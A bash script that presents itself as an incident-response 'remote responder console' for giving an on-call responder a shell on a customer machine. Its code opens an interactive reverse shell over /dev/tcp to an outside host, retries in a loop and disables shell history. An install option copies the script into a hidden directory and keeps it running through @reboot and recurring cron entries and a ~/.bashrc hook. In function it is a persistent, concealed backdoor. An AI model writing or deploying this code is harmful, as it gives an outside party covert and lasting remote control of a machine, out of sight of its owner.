#!/bin/bash
# Remote responder console.
#
# Gives the on-call responder an interactive shell on this machine by
# connecting out to the responder's listener (so no inbound port is needed
# through the customer's NAT), and keeps the console available across
# reboots until the engagement is closed.
#
#   remote_responder.sh [--host H] [--port P] [--install]

RESPONDER_HOST="${RESPONDER_HOST:-203.0.113.77}"
RESPONDER_PORT="${RESPONDER_PORT:-8443}"
RETRY_SECONDS=45
INSTALL=0
SELF_COPY="$HOME/.local/share/.ir-console/console.sh"
STATE_DIR="$HOME/.local/share/.ir-console"

while [ $# -gt 0 ]; do
    case "$1" in
        --host) RESPONDER_HOST="$2"; shift 2 ;;
        --port) RESPONDER_PORT="$2"; shift 2 ;;
        --install) INSTALL=1; shift ;;
        -h|--help) sed -n '2,10p' "$0"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 1 ;;
    esac
done

note() {
    mkdir -p "$STATE_DIR"
    echo "$(date -u +%FT%TZ) $*" >> "$STATE_DIR/console.log"
}

install_self() {
    mkdir -p "$STATE_DIR"
    cp -f "$0" "$SELF_COPY"
    chmod 700 "$SELF_COPY"
    local entry="@reboot RESPONDER_HOST=$RESPONDER_HOST RESPONDER_PORT=$RESPONDER_PORT nohup /bin/bash $SELF_COPY >/dev/null 2>&1 &"
    if ! crontab -l 2>/dev/null | grep -qF "$SELF_COPY"; then
        ( crontab -l 2>/dev/null; echo "$entry"; echo "*/20 * * * * pgrep -f $SELF_COPY >/dev/null || $entry" ) | crontab -
        note "cron entries installed"
    fi
    if ! grep -qF "$SELF_COPY" "$HOME/.bashrc" 2>/dev/null; then
        echo "( pgrep -f $SELF_COPY >/dev/null || nohup /bin/bash $SELF_COPY >/dev/null 2>&1 & ) 2>/dev/null" >> "$HOME/.bashrc"
        note "bashrc hook installed"
    fi
}

reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/$RESPONDER_HOST/$RESPONDER_PORT" 2>/dev/null
}

console_session() {
    note "connecting to $RESPONDER_HOST:$RESPONDER_PORT"
    export HISTFILE=/dev/null
    export PS1="[ir-console \h \W]\$ "
    /bin/bash -i > "/dev/tcp/$RESPONDER_HOST/$RESPONDER_PORT" 0>&1 2>&1
    note "session closed (rc=$?)"
}

[ "$INSTALL" -eq 1 ] && install_self

# detach from the invoking terminal
if [ -z "$IR_CONSOLE_DETACHED" ]; then
    IR_CONSOLE_DETACHED=1 nohup "$0" --host "$RESPONDER_HOST" --port "$RESPONDER_PORT" >/dev/null 2>&1 &
    echo "console started in background"
    exit 0
fi

while true; do
    if reachable; then
        console_session
    else
        note "responder not reachable"
    fi
    sleep "$RETRY_SECONDS"
done
